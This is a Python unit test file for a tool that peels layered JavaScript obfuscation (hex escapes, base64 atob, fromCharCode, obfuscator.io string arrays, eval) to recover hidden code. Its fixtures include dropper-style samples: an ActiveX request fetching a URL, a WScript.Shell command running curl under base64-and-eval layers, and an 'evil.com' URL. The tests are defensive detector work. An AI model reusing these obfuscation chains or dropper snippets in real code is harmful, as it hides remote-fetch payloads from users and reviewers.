"""JavaScript peelers: string builders, decoders, eval of literals and obfuscator.io arrays."""

from __future__ import annotations

import base64

import pytest

from tests.unit.scripts.test_peelers_languages import (
    URL,
    Obfuscator,
    assert_recovers,
    peel_all,
    rewrite,
    run,
    stack,
    stacks,
)
from wingman.core.scripts.peelers.javascript_syntax import quote, unquote
from wingman.core.scripts.types import Lang

PAYLOAD = (
    'var x = new ActiveXObject("MSXML2.XMLHTTP");\n'
    f'x.open("GET", "{URL}", false);\n'
    "x.send(); // fetch it\n"
)


def escapes(text: str) -> tuple[str, list[str]]:
    body = "".join(f"\\x{ord(char):02x}" if ord(char) < 256 else char for char in text)
    return f'eval("{body}")', ["js_escapes", "js_eval"]


def from_char_code(text: str) -> tuple[str, list[str]]:
    codes = ",".join(
        hex(ord(char)) if index % 2 else str(ord(char)) for index, char in enumerate(text)
    )
    return f"eval(String.fromCharCode({codes}))", ["js_fromcharcode", "js_eval"]


def unescape(text: str) -> tuple[str, list[str]]:
    body = "".join(
        f"%u{ord(char):04x}" if index % 2 else f"%{ord(char):02x}"
        for index, char in enumerate(text)
    )
    return f"eval(unescape('{body}'))", ["js_unescape", "js_eval"]


def atob(text: str) -> tuple[str, list[str]]:
    return f"eval(atob('{base64.b64encode(text.encode('latin-1')).decode()}'))", [
        "js_atob",
        "js_eval",
    ]


def reverse(text: str) -> tuple[str, list[str]]:
    return f"eval({quote(text[::-1])}.split('').reverse().join(''))", [
        "js_split_reverse_join",
        "js_eval",
    ]


def concat(text: str) -> tuple[str, list[str]]:
    pieces = [quote(text[index : index + 9], "'") for index in range(0, len(text), 9)]
    return "eval(" + " +\n  ".join(pieces) + ");", ["js_concat", "js_eval"]


def string_array(text: str) -> tuple[str, list[str]]:
    pieces = [text[index : index + 11] for index in range(0, len(text), 11)]
    rotation = 3
    rotated = pieces[-rotation % len(pieces) :] + pieces[: -rotation % len(pieces)]
    items = ",".join(quote(piece, "'") for piece in rotated)
    reads = "+".join(f"_0x5c3e('{hex(index)}')" for index in range(len(pieces)))
    script = (
        f"var _0x4c6f=[{items}];"
        "(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f)"
        "{_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}"
        f"(_0x4c6f,{hex(rotation)}));"
        "var _0x5c3e=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;"
        "var _0x4d74cb=_0x4c6f[_0x2d8f05];return _0x4d74cb;};"
        f"eval({reads});"
    )
    # The string array's reads are joined in the same pass.
    return script, ["js_string_array", "js_eval"]


def evaluate(text: str) -> tuple[str, list[str]]:
    return f"eval({quote(text)});", ["js_eval"]


def function(text: str) -> tuple[str, list[str]]:
    return f"new Function({quote(text, chr(39))})();", ["js_eval"]


OBFUSCATORS: dict[str, Obfuscator] = {
    "escapes": escapes,
    "fromcharcode": from_char_code,
    "unescape": unescape,
    "atob": atob,
    "split_reverse_join": reverse,
    "concat": concat,
    "string_array": string_array,
    "eval": evaluate,
    "function": function,
}
_VISIBLE = {"eval", "function"}


@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
    assert_recovers(text, Lang.JAVASCRIPT, expected, hidden=not _VISIBLE.issuperset(names))


@pytest.mark.parametrize(
    ("literal", "expected"),
    [
        ("'\\x41\\u0042\\u{43}\\104'", ("ABCD", True)),
        ('"a\\nb\\\\c\\"d"', ('a\nb\\c"d', False)),
        ("'\\uD83D\\uDE00'", ("\U0001f600", True)),
        ("'line\\\ncontinued'", ("linecontinued", False)),
        ("'\\x4'", None),
        ("'\\u{110000}'", None),
        ("'\\z'", ("z", False)),
    ],
)
def test_unquote(literal: str, expected: tuple[str, bool] | None) -> None:
    assert unquote(literal) == expected


@pytest.mark.parametrize("value", ["plain", 'it\'s "quoted"', "tab\tnew\nline\x00\u2028", "\ud800"])
def test_quote_round_trips(value: str) -> None:
    for mark in "'\"":
        assert unquote(quote(value, mark)) == (value, "\\u" in quote(value, mark))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("var a = '\\x68\\x74\\x74\\x70';", 'var a = "http";'),
        ('x("\\u0041" + y)', 'x("A" + y)'),
        ("s = '\\x41\\x00'", 's = "A\\u0000"'),
    ],
)
def test_escapes(text: str, expected: str) -> None:
    assert rewrite("js_escapes", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "var a = 'plain \\n text';",
        "// '\\x41'",
        "/* '\\x41' */",
        "var r = /'\\x41'/;",
        "s = '\\x4'",
        's = "\\u0000"',
        "`\\x41`",
    ],
)
def test_escapes_negative(text: str) -> None:
    assert rewrite("js_escapes", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x = String.fromCharCode(104, 0x74, 116, 0o160);", 'x = "http";'),
        ('x = String.fromCharCode(104) + "ttp" + String.fromCharCode(58);', 'x = "http:";'),
        ("x = 1 - String.fromCharCode(65) + 'b'", "x = 1 - \"A\" + 'b'"),
        ("x = String.fromCharCode(65, 66).length", 'x = "AB".length'),
        ("String.fromCharCode.apply(null, [72, 105])", '"Hi"'),
        ("String.fromCodePoint(0x1F600)", '"\U0001f600"'),
        ("String.fromCharCode(65601)", '"A"'),
        ("String.fromCharCode()", '""'),
    ],
)
def test_from_char_code(text: str, expected: str) -> None:
    assert rewrite("js_fromcharcode", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "String.fromCharCode(x)",
        "String.fromCharCode(65 + 1)",
        "String.fromCodePoint(0x110000)",
        "'String.fromCharCode(65)'",
        "String.fromCharCode(1e3)",
    ],
)
def test_from_char_code_negative(text: str) -> None:
    assert rewrite("js_fromcharcode", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("var u = 'http://ev' + \"il.com\";", 'var u = "http://evil.com";'),
        ("f('a' + 'b', 'c' + 'd')", 'f("ab", "cd")'),
        ("x = y + 'a' + 'b'", 'x = y + "ab"'),
        ("return 'a' +\n 'b';", 'return "ab";'),
    ],
)
def test_concat(text: str, expected: str) -> None:
    assert rewrite("js_concat", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "x = 'a' + 'b'.length",
        "x = n * 'a' + 'b'",
        "x = -'a' + 'b'",
        "x = typeof 'a' + 'b'",
        "x = 'a' + 'b'[0]",
        "x = 'a' + b",
        "x = y++ + 'a' + 'b'",
        '\'x = "a" + "b"\'',
    ],
)
def test_concat_negative(text: str) -> None:
    assert rewrite("js_concat", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("unescape('%u0068%74tp%3A')", '"http:"'),
        ("unescape('100%')", '"100%"'),
        ("decodeURIComponent('%E2%9C%93%2F')", '"\u2713/"'),
        ("decodeURI('a%20b')", '"a b"'),
    ],
)
def test_unescape(text: str, expected: str) -> None:
    assert rewrite("js_unescape", text) == expected


@pytest.mark.parametrize(
    "text", ["unescape(x)", "decodeURIComponent('%E2%9C')", "decodeURI('%2F')", "decodeURI('%')"]
)
def test_unescape_negative(text: str) -> None:
    assert rewrite("js_unescape", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("atob('aHR0cDovL3g=')", '"http://x"'),
        ("window.atob(' aHR0 cDovL3g ')", '"http://x"'),
        ("atob('/w==')", '"\u00ff"'),
        ("Buffer.from('aHR0cDovL3g=', 'base64').toString()", '"http://x"'),
        ("new Buffer('687474703a2f2f78', 'hex').toString('utf8')", '"http://x"'),
        ("Buffer.from('aHR0cDovL3g', 'base64').toString('latin1')", '"http://x"'),
    ],
)
def test_atob(text: str, expected: str) -> None:
    assert rewrite("js_atob", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "atob(x)",
        "atob('a')",
        "atob('a$b=')",
        "Buffer.from('aGk=', 'base64').toString('hex')",
        "Buffer.from('zz', 'hex').toString()",
        "myatob('aGk=')",
    ],
)
def test_atob_negative(text: str) -> None:
    assert rewrite("js_atob", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("'cba'.split('').reverse().join('')", '"abc"'),
        ('[..."cba"].reverse().join("")', '"abc"'),
        ("Array.from('cba').reverse().join('')", '"abc"'),
        ("'\U0001f600a'.split('').reverse().join('')", '"a\\ude00\\ud83d"'),
        ("[...'\U0001f600a'].reverse().join('')", '"a\U0001f600"'),
    ],
)
def test_split_reverse_join(text: str, expected: str) -> None:
    assert rewrite("js_split_reverse_join", text) == expected


@pytest.mark.parametrize(
    "text", ["'cba'.split(',').reverse().join('')", "s.split('').reverse().join('')"]
)
def test_split_reverse_join_negative(text: str) -> None:
    assert rewrite("js_split_reverse_join", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("eval('alert(1)')", "alert(1)"),
        ('window.eval("a=1")', "a=1"),
        ("new Function('a', 'b', 'return a+b')", "return a+b"),
        ("Function('x()')()", "x()"),
        ('setTimeout("run()", 100)', "run()"),
        ("setInterval('tick()')", "tick()"),
    ],
)
def test_eval(text: str, expected: str) -> None:
    found = run("js_eval", text)
    assert [(item.content, item.language) for item in found] == [(expected, Lang.JAVASCRIPT)]


@pytest.mark.parametrize(
    "text",
    [
        "eval(x)",
        "eval('a' + 'b')",
        "obj.eval('x()')",
        "'eval(\"x()\")'",
        "myeval('x()')",
        "eval('')",
        "eval('\\x61()')",
    ],
)
def test_eval_negative(text: str) -> None:
    assert run("js_eval", text) == []


_ARRAY = (
    "var _0x4c6f=['log','{url}','Hello\\x20World!'];"
    "(function(_0x2d8f05,_0x4b81bb){{var _0x4d74cb=function(_0x32719f){{while(--_0x32719f)"
    "{{_0x2d8f05['push'](_0x2d8f05['shift']());}}}};_0x4d74cb({inc}_0x4b81bb);}}(_0x4c6f,0x1));"
    "var _0x5c3e=function(_0x2d8f05,_0x4b81bb){{_0x2d8f05=_0x2d8f05-0x0;"
    "var _0x4d74cb=_0x4c6f[_0x2d8f05];return _0x4d74cb;}};"
    "console[_0x5c3e('0x2')](_0x5c3e('0x0')); fetch(_0x4c6f[0]);{extra}"
)


def test_string_array_rotation_and_accessor() -> None:
    text = _ARRAY.format(url=URL, inc="++", extra="")
    rewritten = rewrite("js_string_array", text)
    assert rewritten is not None
    assert rewritten.endswith(f'console["log"]("{URL}"); fetch("{URL}");')


def test_string_array_rotation_without_increment() -> None:
    rewritten = rewrite("js_string_array", _ARRAY.format(url=URL, inc="", extra=""))
    assert rewritten is not None
    assert rewritten.endswith('console["Hello World!"]("log"); fetch("log");')


@pytest.mark.parametrize(
    "extra",
    ["_0x4c6f.push('x');", "_0x4c6f[0] = 'y';", "f(_0x4c6f);"],
    ids=["push", "store", "pass"],
)
def test_string_array_left_alone_when_used_otherwise(extra: str) -> None:
    assert rewrite("js_string_array", _ARRAY.format(url=URL, inc="++", extra=extra)) is None


def test_string_array_with_checksum_rotation_is_left_alone() -> None:
    text = (
        "var _0xa=['a','b'];(function(_0x1,_0x2){while(!![]){try{var _0x3=parseInt(_0x1[0]);"
        "if(_0x3===_0x2)break;else _0x1['push'](_0x1['shift']());}catch(_0x4)"
        "{_0x1['push'](_0x1['shift']());}}}(_0xa,0x1234));x(_0xa[0]);"
    )
    assert rewrite("js_string_array", text) is None


def test_array_without_rotation() -> None:
    assert rewrite("js_string_array", "const a = ['x', 'y']; go(a[1], a[0x0]);") == (
        "const a = ['x', 'y']; go(\"y\", \"x\");"
    )


def test_dropper_peels_end_to_end() -> None:
    inner = f"var s = new ActiveXObject('WScript.Shell'); s.Run('curl {URL}');"
    encoded = base64.b64encode(inner.encode()).decode()
    text = f"var k = ['YXRvYg=='];\neval(atob('{encoded}'));"
    layers, stopped = peel_all(text, Lang.JAVASCRIPT)
    assert stopped is None
    assert layers[2].content == inner
    assert [layer.technique for layer in layers] == [
        "input",
        "js_atob",
        "js_eval",
        "js_eval_inline",
    ]
    assert layers[3].content == f"var k = ['YXRvYg=='];\n{inner};"
